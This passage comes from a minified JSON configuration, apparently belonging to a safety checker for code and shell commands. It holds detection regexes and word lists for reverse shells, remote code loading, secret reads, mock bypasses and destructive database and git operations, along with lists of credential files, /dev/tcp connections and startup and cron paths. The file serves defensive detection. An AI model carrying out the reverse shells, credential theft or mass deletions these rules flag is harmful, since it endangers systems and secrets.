+in/)?(?:ba|z|k|da)?sh\\\\\\"(?:, ?\\\\\\"-i\\\\\\")?\\\\)[\\\\s\\\\S]{0,200}\\\\.Stdin\\\\b[^\\\\n=]{0,60}=\\\\s?\\\\w"],"remote-code":["^(?![\\\\s\\\\S]*\\\\bgem\\\\b)(?:[\\\\s\\\\S]*[;\\\\n])?\\\\s{0\
+,9}(?:devtools::)?source(?:_url)?\\\\(\\\\s?['\\\\\\"]https?://|^(?=[\\\\s\\\\S]*?\\\\bfetch\\\\()(?=[\\\\s\\\\S]*?\\\\bimport\\\\(\\\\s?(?<module>['\\\\\\"][^'\\\\\\"\\\\n]{1,200}['\\\\\\"]))[\\\\s\
+\\\\S]*\\\\b(?:Bun\\\\.write|writeFile(?:Sync)?|writeTextFile(?:Sync)?)\\\\(\\\\s?\\\\k<module>"],"cluster-admin":["['\\"]cluster-admin['\\"]"],"role-methods":["^(?:create|pa\
+tch|replace)_?(?:cluster_?|namespaced_?)role_?binding$","i"],"sets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extract|reload)\\\\s*\\\\(|\\\\bimport\\\\s+\\\\*"\
+],"reads-environment":["\\\\bprocess\\\\.env\\\\b|\\\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\\\\n]*\\\\)\\\\s+if\\\\b|\\\\bnullcont\
+ext\\\\b|__wrapped__|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\(|mockImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__dict__|__builtins__|sys\\\\.modul\
+es|import_module|__import__|_getframe|f_globals|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require|import)Actual|importOriginal\
+|require\\\\.cache|createRequire|getBuiltinModule|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\\\\.(?:assign|definePropert\\\\w\
++|setPrototypeOf)\\\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bsyncBuiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patcher|Stubber|responses|respx|sin\
+on|jest|vi|nock|setupServer)\\\\b|\\\\.(?:patch|object|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\\\\bpatch\\\\s*="],"process-test\
+s":["\\\\b(?:name|cmdline|comm|exe)\\\\b"],"names-processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connections":["(?:(?:create_engine|newI\
+nstance|getConnection|createConnection|new PDO|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b|config|#|\\\\bfrom\\\\s+(?!celery\\\\b)\
+|\\\\bimport\\\\s+(?!Celery\\\\b)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.assign"],"installs-cron":["wri\
+te_to_user|user\\\\s*="],"by-user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW]ith|ends_?[wW]ith|find|searc\
+h|match)\\\\(\\\\s*[\\"'/]\\\\w{0,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("],"production":["\\\\bPROD(?:UCT\
+ION)?_\\\\w*(?:UR[LI]|DSN|DB)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())[\\\\s\\\\S]*\\\\bopen\\\\s*\\\\(?\\\\s*S\
+TDIN\\\\s*,\\\\s*[\\"']?[<>+]{0,2}&"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|upto|downto|step|cycle|map|select|reduce|def|sub|func\\\\\
+w*|fn|eval|exec\\\\w*|lambda|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfork\\\\b(?:[\\\\s\\\\S]*?\\\\bfork\\\\b){\
+3}"],"limits":["\\\\bwhere\\\\s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\w)]\\\\.(?:print|puts)\\\\b|fputs|fprintf|save|copy|pipe|se\
+nd|<<|to_\\\\w+\\\\(|fwrite|Writer"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\\w*)?['\\"]|\\\\b(?:TOKEN|SECRET|PASSWORD)\\\\|"],"encrypts"\
+:["\\\\.encrypt\\\\(|createCipher|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rolled-back":["^\\\\s*(?:BEGIN(?: TRANSACTION| WORK)?|START \
+TRANSACTION);(?:\\\\s*(?:SELECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\s*$","i"],"keeps-real":["pause|pass_?thr|add_real|real_\
+http|resume|session\\\\s*=|skip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":["^\\\\s*(?:from|import) (?!boto|moto|(?:os|sys|json|re|pytest|da\
+tetime)\\\\b)|^\\\\s*import [^\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["(?:boto3\\\\.(?:client|resource)\\\\([\\\\s\\\\S]*){2}"],"other-reques\
+ts":["\\\\b(?:httpx|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|from) (?:posix|nt|ctypes|_)","m"],"besides-httpx":["\\\\b(?:requ\
+ests|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"besides-fetch":["passthrough|bypass|['\\"](?:node:)?(?:net|tls|\
+dgram|http2)['\\"]|socket"],"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\bback\\\\b|recorder|NOCK_OFF|adapter|undici|superagent|http2|['\\"\
+](?:node:)?net['\\"]|globalThis|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetch['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]},"shared":{"functions":{"chr\
+":"characters $all","fromCharCode":"characters $all","fromCodePoint":"characters $all","bytes":"characters $0","bytearray":"characters $0","ord":"code-point $0"\
+,"int":"integer $0 $1","str":"value $0","String":"value $0","strval":"value $0","iter":"value $0","scalar":"value $0","expanduser":"value $0","abspath":"value $\
+0","realpath":"value $0","normpath":"value $0","fspath":"value $0","compile":"value $0","enter_context":"value $0","closing":"value $0","list":"listed $0","sort\
+ed":"listed $0","tuple":"listed $0","set":"listed $0","frozenset":"listed $0","Set":"listed $0","Array.from":"listed $0","from":"listed $0","b64decode":"fold ba\
+se64 $0","urlsafe_b64decode":"fold base64 $0","decodebytes":"fold base64 $0","a2b_base64":"fold base64 $0","base64_decode":"fold base64 $0","decode_base64":"fol\
+d base64 $0","decode64":"fold base64 $0","strict_decode64":"fold base64 $0","urlsafe_decode64":"fold base64 $0","atob":"fold base64 $0","b32decode":"fold base32\
+ $0","b85decode":"fold unread $0","a85decode":"fold unread $0","str_rot13":"fold unread $0","decompress":"fold unread $0","gzinflate":"fold unread $0","gzuncomp\
+ress":"fold unread $0","gzdecode":"fold unread $0","inflateSync":"fold unread $0","inflateRawSync":"fold unread $0","gunzipSync":"fold unread $0","b16decode":"f\
+old hex $0","unhexlify":"fold hex $0","a2b_hex":"fold hex $0","fromhex":"fold hex $0","hex2bin":"fold hex $0","strrev":"fold reverse $0","reversed":"reverse $0"\
+,"reverse":"reverse $0","strtolower":"fold lower $0","lc":"fold lower $0","strtoupper":"fold upper $0","uc":"fold upper $0","trim":"fold trim $0","unescape":"fo\
+ld url $0","unquote":"fold url $0","urldecode":"fold url $0","rawurldecode":"fold url $0","decodeURIComponent":"fold url $0","decodeURI":"fold url $0","expandva\
+rs":"fold home $0","join":"join-texts $0 $1..","implode":"join-texts $0 $1..","sprintf":"format $0 $1..","map":"map $0 $1","array_map":"map $0 $1"},"methods":{"\
+join":"join-texts $self $0","split":"if-text split $self $0","replace":"if-text if-args:2 replace $self $0 $1","replaceAll":"if-text replace $self $0 $1","gsub"\
+:"if-text replace $self $0 $1","lower":"if-text fold lower $self","downcase":"if-text fold lower $self","toLowerCase":"if-text fold lower $self","upper":"if-tex\
+t fold upper $self","upcase":"if-text fold upper $self","toUpperCase":"if-text fold upper $self","strip":"if-text fold trim $self","chomp":"if-text fold trim $s\
+elf","trim":"if-text fold trim $self","rstrip":"if-text fold trim-end $self","lstrip":"if-text fold trim-start $self","reverse":"reverse $self","decode":"decode\
+ $self $0","encode":"value $self","to_s":"value $self","to_str":"value $self","to_sym":"value $self","bytes":"value $self","bind":"value $self","chars":"if-text\
+ elements $self","concat":"concatenate $self $all","format":"if-text format $self $0..","clear":"if-lasting run sql delete-all rows","clearAsync":"if-lasting ru\
+n sql delete-all rows","drop":"if-lasting run sql delete-all rows","dropAsync":"if-lasting run sql delete-all rows","erase":"if-lasting run sql delete-all rows"\
+,"remove":"if-empty if-lasting run sql delete-all rows","removeAsync":"if-empty if-lasting run sql delete-all rows","openDB":"if-made:store value $self","open_d\
+b":"if-made:store value $self","sublevel":"if-made:store value $self","begin":"if-made:store value $self","pack":"pack $0 $self","unpack1":"if-text fold base64 \
+$self","charCodeAt":"code-point $self $0","slice":"slice $self $0 $1","joinpath":"join $self $0..","hexdigest":"value","call":"invoke $self $0..","apply":"invok\
+e $self $1","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1.."},"deeds":{"drop_database":"if-kept run sql d\
+rop-database $owner","dropdatabase":"if-kept run sql drop-database $owner","push":"if-git run git push $all","checkout":"if-git run git checkout $all","update_r\
+ef":"if-git run git update-ref $all","filter_branch":"if-git run git filter-branch $all","branch":"if-git run git branch $all","stash":"if-git run git stash $al\
+l","raw":"if-git program git $all","reset":"if-says:^- run git reset $all","clean":"if-says:^- run git clean $all","drop_all":"if-kept run sql drop-schema $owne\
+r","drop_table":"if-kept run sql drop-table $0","droptable":"if-kept run sql drop-table $0","drop_index":"value","drop_indexes":"value","dropindex":"value","dro\
+pindexes":"value","flushall":"if-stored run sql flush FLUSHALL","flush_all":"if-stored run sql flush FLUSHALL | if-name:broker run sql flush FLUSHALL","flushdb"\
+:"if-stored run sql flush FLUSHDB","delete_all":"if-name if-kept run sql delete-all $owner","destroy_all":"if-name if-kept run sql delete-all $owner","deleteall\
+":"if-name if-kept run sql delete-all $owner","deletemany":"if-kept if-empty run sql delete-all $owner","delete_many":"if-kept if-empty run sql delete-all $owne\
+r","_raw_delete":"if-kept run sql delete-all $owner","drop_collection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","dr\
+opcollection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","query":"made rows","collection":"made rows","all":"if-none \
+made rows","filter":"if-none made rows","exclude":"if-none made rows","begin_delete":"if-kept run cloud-sdk delete","begindelete":"if-kept run cloud-sdk delete"\
+,"recursivedelete":"if-kept run cloud-sdk delete","obliterate":"if-kept run cloud-sdk delete","expunge":"if-none if-kept run cloud-sdk delete","purge":"if-name:\
+control if-no-sign:memory-broker run celery purge","discard_all":"if-name:control if-no-sign:memory-broker run celery purge","drop":"if-made:rows if-none run sq\
+l drop-collection rows","delete":"if-made:rows if-none run sql delete-all rows | if-none made pending-delete","forcedelete":"if-made:rows if-none run sql delete\
+-all rows"}},"words":{"skipped":["if","elif","else","elsif","unless","while","until","do","try","except","catch","finally","begin","rescue","ensure","then","end\
+","and","or","in","case","when","switch","default","break","continue","pass","next","last","redo","raise","throw","export","public","private","protected","stati\
+c","final","abstract","async","use","using","package"],"ending_signs":[";","{","}",")","]",",",":","=>"],"assigning":["=",":=","+=",".=","||=","??=","&&="],"con\
+structors":["__init__","constructor","initialize","__construct"],"class_keywords":["class","module","interface","namespace"],"declaring":["const","let","var","m\
+y","our","local","await","static","async"],"standard":["assert","async_hooks","buffer","child_process","cluster","console","crypto","dgram","dns","events","fs",\
+"http","http2","https","module","net","os","path","perf_hooks","process","punycode","querystring","readline","stream","string_decoder","timers","tls","tty","url\
+","util","v8","vm","worker_threads","zlib","bun","zx","abc","argparse","array","ast","asyncio","base64","binascii","bz2","calendar","cgi","cmath","codecs","coll\
+ections","concurrent","configparser","contextlib","copy","csv","ctypes","dataclasses","datetime","decimal","difflib","email","enum","errno","fileinput","fnmatch\
+","fractions","functools","gc","getpass","glob","gzip","hashlib","heapq","hmac","html","importlib","inspect","io","ipaddress","itertools","json","keyword","loca\
+le","logging","lzma","math","mimetypes","multiprocessing","operator","pathlib","pickle","pkgutil","platform","plistlib","pprint","queue","random","re","sched","\
+secrets","select","shelve","shlex","shutil","signal","smtplib","socket","socketserver","sqlite3","ssl","stat","statistics","string","struct","subprocess","sys",\
+"sysconfig","tarfile","tempfile","textwrap","threading","time","timeit","traceback","types","typing","unittest","urllib","uuid","venv","warnings","weakref","web\
+browser","xml","xmlrpc","zipfile","zoneinfo","dotenv","jsonwebtoken","jose","jwt","bcrypt","bcryptjs","passlib","cryptography","pydantic","zod","yaml","lodash",\
+"pandas","numpy","express","fastapi","flask","starlette","winston","pino","loguru","structlog","click","typer","jsdom","happy-dom","linkedom","cheerio","nock","\
+msw","supertest","sinon","jest","vitest","pytest","responses","requests_mock","respx","pytest_httpx","vcr","betamax","moto"],"prefixing":["new","await","not","t\
+ypeof","void","defined","yield","async","return","throw","clone"],"following":["if","unless","while","until","do","and","or","end","then","rescue","ensure","in"\
+,"else","elsif","for","foreach","x","eq","ne","cmp","lt","gt","le","ge"],"opening":["do","def","class","module","begin","case"],"leading_opening":["if","unless"\
+,"while","until","for"],"spawning":["Start","spawn","spawnl","spawnlp","spawnv","spawnvp","spawnve","fork","vfork","Popen","posix_spawn","pcntl_fork","proc_open\
+","popen","execFile","Worker","Process","create_subprocess_exec","create_subprocess_shell"],"shells":["system","exec","shell_exec","popen","execSync","os","exec\
+ute","shell","cmd"],"waiting":["break","return","exit","P_WAIT","wait","wait2","waitpid","waitpid2","wait4","join","communicate","sleep","usleep","await","throw\
+","raise","die","last","readline","input","gets","recv","accept","get","poll","Queue","Sleep","Wait","Accept","Recv","receive","Receive","select","After","Tick"\
+,"delay","Delay","sleepAsync"],"sql_kinds":["DATABASE","SCHEMA","TABLE","VIEW","INDEX","USER","ROLE","FUNCTION","PROCEDURE","TRIGGER","SEQUENCE","TYPE","EXTENSI\
+ON","KEYSPACE","TABLESPACE","COLUMN","CONSTRAINT","POLICY","OWNED","COLLECTION","STREAM","BUCKET","MEASUREMENT","SERIES","PARTITION"],"sql_fillers":["IF","EXIST\
+S","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_PRIORITY","QUICK","IGNORE"],"sql_leads":["AS","BEGIN","THEN","ANALYZE","ANALYSE","EXPLAIN","DO","DETACH","LOOP","E\
+LSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","PG_READ_BINARY_FILE","LO_IMPORT","READFILE","READ_TEXT","INFILE"],"sql_writes":["OUTFILE","DUMPFILE","WRITEFILE",\
+"LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREPARE","DO"],"before_value":["return","typeof","case","in","of","and","or","not","if","unless","split","grep","when\
+"],"behind_calls":["while","until","if","unless","or","and","for","foreach"],"data_signs":["driver","database","key-store","in-memory","imitation","data-library\
+"],"endpoints":["endpoint_url","endpoint","base_url","baseURL"],"sending_verbs":["POST","PUT","PATCH","DELETE"],"element_methods":["map","forEach","flatMap","fi\
+lter","each","each_with_index","collect","select","find","to_h","filter_map","reverse_each"],"folding_methods":["reduce","inject","each_with_object"],"selecting\
+_methods":["filter","select","reject","sort","toSorted","find_all","grep"],"selecting_functions":["filter","takewhile","dropwhile","tqdm"],"remote":["indices","\
+indexes","tables","databases","collections","schemas","keyspaces","queues","topics","streams","buckets","exchanges","repos","repositories","projects","resourceg\
+roups","volumes","instances","virtualmachines","droplets","servers","clusters","namespaces","organizations","customers","subscriptions","deployments","dnszones"\
+,"zones","tenants","vaults","storageaccounts","webapps","datasets","loadbalancers","backups","hostedzones","shards","replicas","partitions"],"remote_members":["\
+indices","repos","repositories","buckets","resourcegroups","virtualmachines","droplets","keyspaces","customers","dnszones","storageaccounts","webapps","loadbala\
+ncers","hostedzones","deployments","namespaces","databases","volumes"],"deleting":["delete","rdelete","del","drop","destroy","purge","truncate","wipe","terminat\
+e","erase","nuke","obliterate","expunge","deregister","deletion"],"loosely_deleting":["remove","clear","empty","rmtree","removetree","rmdir","unlink","rm"],"pas\
+sing":["label","labels","tag","tags","reaction","reactions","assignee","assignees","reviewer","reviewers","listener","listeners","handler","handlers","header","\
+headers","interceptor","interceptors","cookie","cookies","cache","caches","timeout","interval","filter","filters","default","defaults","mock","mocks","queue_han\
+dler"],"deletion_fillers":["admin","schedule","key","all","if","exist","exists","async","sync","force","cascade","begin","batch","bulk","recursive","and","wait"\
+,"now","by","id","command"],"imitating":["moto.mock_aws","responses.activate","respx.mock"],"mock_setters":["configure_mock","attach_mock","callsFake","returns"\
+,"resolves","rejects","mockImplementation","mockReturnValue","mockResolvedValue","mockRejectedValue"],"mock_ends":["restore","restoreAll","restoreAllMocks","moc\
+kRestore","reset","resetAll","resetAllMocks","mockReset","stop","stopall","undo","callThrough","callThroughWithNew","callsArg","mockImplementationOnce","__exit_\
+_","unmock","doUnmock","enableNetConnect","isolateModules","resetModules","resetHandlers","deactivate"],"conditional":["if","elif","else","unless","for","foreac\
+h","while","until","do","switch","match","try","except","case","and","or","assert","&&","||","??","?","?.","||=","??=","&&="],"exiting":["return","throw","raise\
+","await"],"defining":["def","class","function","func","fn","sub","lambda","yield","case","default","label","goto","defer","finally"],"showing_functions":["gets\
+ource","getsourcelines","signature","getdoc","getfile","callable","isfunction","repr","isinstance","issubclass"],"function_fields":["__name__","__doc__","__defa\
+ults__","__annotations__","__module__","__qualname__"],"suspending":["await","yield"],"continuing":["else","catch","finally","while","instanceof","in","of","as"\
+,"from","do"],"changing":["global","nonlocal","for","as","case","del"],"setting":["=",":=","+=","??=","||="],"later":["lambda","def","function","atexit","Timer"\
+,"Thread","submit"],"ending":["endswith","endsWith"],"alternating":["||","!","?","??","^",":="],"prefix_signs":["+","-","!","~","*","**","...","&","\\\\","++","--\
+","@","$"],"block_lists":["map","grep","sort","first","any","all"],"perl_declaring":["my","our","local"],"file_programs":["rm","rmdir","mv","cp","ln","chmod","c\
+hown","touch","mkdir"],"deleting_programs":["rm","truncate","shred"],"destructive_programs":["rm","rmdir","eval","truncate","mv","chmod","chown"]}},"paths":{"cl\
+asses":{"root":"\`/\` itself, or everything in it.","system":"Folders of the operating system and their contents.","system-tree":"Such a folder itself, or one of \
+its main parts: /etc/ssl, /usr/lib, /var/lib.","local-system":"Parts of the system for local additions: /usr/local, /opt, package sources.","home":"A home folde\
+r itself, or all of several.","personal":"Direct child of a home, or of a folder of personal files.","outside":"Deeper in a home, or anywhere else outside the w\
+orkspace.","workspace":"The workspace itself, everything in it, or a folder above it.","source":"Near the top of the workspace, and not produced by a build.","s\
+ource-folder":"Of these, a folder by whose name projects keep what people wrote; others may be what the agent made itself.","inner":"Deeper in the workspace, an\
+d not produced by a build.","disposable":"Produced anew by a build, test or package manager.","temp":"Inside a folder for temporary files.","temp-root":"Such a \
+folder itself, or everything in it.","vcs":"Store of a version control system: \`.git\`.","vcs-config":"Hooks and configuration of version control.","credentials"\
+:"Secrets: keys, tokens, passwords.","credentials-by-name":"\\"credentials\\" in the name of source code or a text: protected from edit tools alone.","handed-over\
+":"Secrets in \`.env\` that the shell hands to programs: \`source .env\`.","from-template":"The same, as a copy of the template beside it.","accounts":"Users and pe\
+rmissions: passwd, sudoers, PAM.","account-secrets":"Of these, all but the list of names that every program reads: /etc/passwd.","authorized-keys":"Keys that ma\
+y log in.","startup":"Read by shells, desktops and interpreters at start-up.","schedule":"Cron, timers, services.","device":"Disks.","kernel":"Switches and memo\
+ry of the kernel.","socket":"Sockets that control a machine.","connection":"\`/dev/tcp/\\u2026\`: a connection to another machine.","local-connection":"The same to\
+ this machine, or to a container beside it.","nowhere":"\`/dev/null\`.","endless":"Devices without an end: \`/dev/zero\`.","data":"Dumps, backups, databases, lists \
+of people.","logs":"Evidence kept by the system: logs, histories.","unknown":"Unknown before the command runs.","unknown-folder":"Everything in a folder whose n\
+ame is unknown, and may be empty: all of the machine then."},"purposes":{"connection":{"form":"^/dev/(?:tcp|udp)/(?!(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[\
+?::1\\\\]?|[a-z][\\\\w-]*)/)"},"local-connection":{"form":"^/dev/(?:tcp|udp)/(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/"},"nowhere":{"form"\
+:"^/dev/(?:null|zero|full|random|urandom)$"},"endless":{"form":"^/dev/(?:zero|full|u?random)$"},"startup":{"form":"^(~/)?\\\\.(bashrc|bash_profile|bash_login|bash\
+_logout|bash_aliases|profile|zshrc|zshenv|zprofile)$|^(~/)?\\\\.(zlogin|zlogout|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsession|xsessionrc|shrc)$|^(~/)?\\\\.(mks\
+hrc|bash_env|inputrc|pam_environment)$|^~/\\\\.config/(fish/|autostart(/|$)|environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/env)|^~/\\\\.(vimrc|emacs|pythonrc|py\
+thonstartup|gdbinit|tmux\\\\.conf|ssh/rc|ssh/environment|ssh/config)|^~/\\\\.(oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packages/.*(\\\\.pth|sitecustomize\\\\.py|us\
+ercustomize\\\\.py))|^/etc/(profile(\\\\.d(/.*)?)?|bash\\\\.bashrc|bashrc|zsh(/.*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|conf)(\\\\.d/.*)?|rc\\\\.local|xdg/autos\
+tart/.*|skel/.*|fish/.*)$|^/etc/(update-motd\\\\.d/.*|inputrc)$|(^|/)(sitecustomize|usercustomize)\\\\.py$|/(site|dist)-packages/[^/]+\\\\.pth$","home":true},"schedul\
+e":{"form":"^/etc/(cron[^/]*(/.*)?|anacrontab|systemd/.*|init\\\\.d(/.*)?|rc\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|at)|^(/usr)?/lib/systemd/|^/run/sys\
+temd/|^~/\\\\.config/systemd(/|$)|^~?/library/launch(agents|daemons)(/|$)|^/library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\\\\.d/|^(/usr)?(/lib|/etc)/udev/rule\
+s\\\\.d/|^/etc/polkit-1/","home":true},"authorized-keys":{"form":"(^|/)\\\\.ssh/authorized_keys2?$|^/etc/ssh/(sshd_config|authorized_keys)"},"accounts":{"form":"^(/\
+usr/local)?/etc/(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(security/.*|doas\\\\.conf|login\\\\.defs|subui\
+d|subgid|pass\\\\S*[*?]\\\\S*)$"},"account-secrets":{"form":"^(/usr/local)?/etc/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?)$|^(/us\
+r/local)?/etc/(?!passwd$)(pam\\\\.d(/.*)?|security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(pass\\\\S*[*?]\\\\S*)$|^/usr/local/etc/p\
+asswd$"},"device":{"form":"^/dev/((sd|hd|vd|xvd)[a-z*?]+[\\\\d*?]*|nvme\\\\d.*|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/.*)$|^/dev/(loop\\\\d+|nbd\\\\d+|mem|km\
+em|port|disk/.*|vg\\\\w*/.*)$"},"kernel":{"form":"^/(proc/(sys|sysrq-trigger|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form":"(^|/)(docker|containerd|podman|c\
+rio)\\\\.sock$"},"vcs-config":{"form":"^(~/\\\\.gitconfig|~/\\\\.config/git/|/etc/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|backups?|customers?|users|clients|pay\
+roll|salar(y|ies)|patients?)([-_./]|$)|(^|[-_./])(employees|database|production[-_]?data|private|confidential|secrets?|prod)([-_./]|$)|\\\\.(sql|sql\\\\.gz|dump|sql\
+ite3?|db|bak|mdb|rdb|pst|mbox|kdbx)$"},"logs":{"form":"^/var/(log|audit)(/|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_repl)_history$|^/run/log"}},"words":{"\
+system_folders":["bin","boot","dev","etc","lib","lib32","lib64","libx32","opt","proc","root","run","sbin","srv","sys","usr","var","system","library","applicatio\
+ns","snap","nix","lost+found"],"root_folders":["boot","dev","etc","proc","root","sys","usr"],"personal_folders":["documents","desktop","pictures","downloads","m\
+usic","videos","movies","photos","library",".config",".local",".mozilla"],"credentials":[".netrc","_netrc",".npmrc",".pypirc",".pgpass",".my.cnf",".mylogin.cnf"\
+,".git-credentials",".htpasswd",".dockercfg",".s3cfg",".boto",".vault-token",".envrc",".terraformrc",".yarnrc.token","kubeconfig","master.key","wallet.dat","log\
+in.keychain-db","key4.db","logins.json","shadow","gshadow","shadow-","gshadow-","environ","admin.conf","secring.gpg",".bash_history",".zsh_history",".python_his\
+tory",".psql_history",".mysql_history",".node_repl_history","tnsnames.ora",".secrets",".secret",".passwd-s3fs","rclone.conf",".credentials"],"disposable":["node\
+_modules","bower_components","jspm_packages","dist","dist-ssr","build","builds","_build","out","output","outputs","target","bin","obj","coverage","htmlcov",".ny\
+c_output",".next",".nuxt",".output",".svelte-kit",".turbo",".cache","cache","caches",".parcel-cache",".vite",".angular",".gradle",".venv","venv","env","virtuale\
+nv",".virtualenv","__pycache__",".pytest_cache",".mypy_cache",".ruff_cache",".tox",".nox",".eggs",".hypothesis",".ipynb_checkpoints",".terraform",".serverless",\
+".vercel",".netlify",".docusaurus",".eslintcache",".stylelintcache","storage/framework/views","storage/framework/cache",".coverage","coverage.xml","lcov.info","\
+builddir","storybook-static","public/build","public/packs","vendor","vendor/bundle","tmp","temp",".tmp",".temp","logs","log","generated","gen",".generated","__g\
+enerated__","artifacts","artifact","reports","report","test-results","test-reports","test-output","test_output","playwright-report","allure-results","allure-rep\
+ort","junit.xml","deps",".bundle","cmake-build-debug","cmake-build-release","cmakefiles","cmakecache.txt","debug","release",".stack-work","dist-newstyle",".dart\
+_tool","deriveddata","pods",".build",".swiftpm","elm-stuff","zig-out","zig-cache","nimcache",".zig-cache","scratch",".scratch","_site",".jekyll-cache",".sass-ca\
+che","bench-results",".pnpm-store","package-lock.json","yarn.lock","pnpm-lock.yaml","poetry.lock",".ds_store","thumbs.db","nohup.out","a.out","lib-cov","typings\
+","wheelhouse",".aws-sam","cdk.out",".elixir_ls",".lexical",".metals",".bloop",".bsp",".ccls-cache",".scannerwork",".snakemake",".cxx","bazel-out","bazel-bin","\
+bazel-testlogs",".astro",".externalnativebuild",".expo",".vuepress",".docusaurus",".vinxi",".nitro",".wxt",".yarn/cache",".rpt2_cache",".fusebox",".dynamodb",".\
+nx","lerna-debug.log",".phpunit.result.cache",".phpunit.cache",".direnv","mlruns","wandb","lightning_logs","runs","checkpoints/tmp","snapshots","__snapshots__",\
+"__image_snapshots__","screenshots"],"project_outputs":["resources/_gen","stage","pkgroot","rootfs","appdir",".vs","xcuserdata",".libs",".firebase",".apt_genera\
+ted","web_modules","vcpkg_installed","develop-eggs","bin-debug","bin-release","sdist","out-tsc","opencover","paket-files","meson-logs","nbbuild","nbdist","nimbl\
+ecache","msbuild_logs","htmldocs","gwt-unitcache","codecoverage","cover_db","cython_debug","ipch","lib_managed","src_managed","project/boot","project/target","b\
+lib","build_isolated","devel_isolated","benchmarkdotnet.artifacts","test-report","tests_output","_yardoc","__pypackages__","__marimo__","__macosx",".yardoc",".v\
+irtual_documents",".pytype",".pyre",".pybuilder",".pub",".pdm-build",".mooncakes",".ng",".nb-gradle",".lein-plugins",".lake",".kitchen",".ionide",".htf",".godot\
+",".import",".expo-shared",".ensime_cache",".eask",".cpcache",".cdk.staging",".buildlog",".artifacts",".ansible",".ammonite",".rts2_cache_cjs",".rts2_cache_es",\
+".rts2_cache_umd",".symlinks","blob-report","tfplan","tfplan.binary","tfplan.out","_autosummary","latex.out","slprj",".stryker-tmp",".swc",".wrangler",".sst",".\
+open-next",".contentlayer",".lighthouseci",".jest-cache",".rollup.cache",".kotlin",".scala-build","intermediate","deriveddatacache","library/bee","library/scrip\
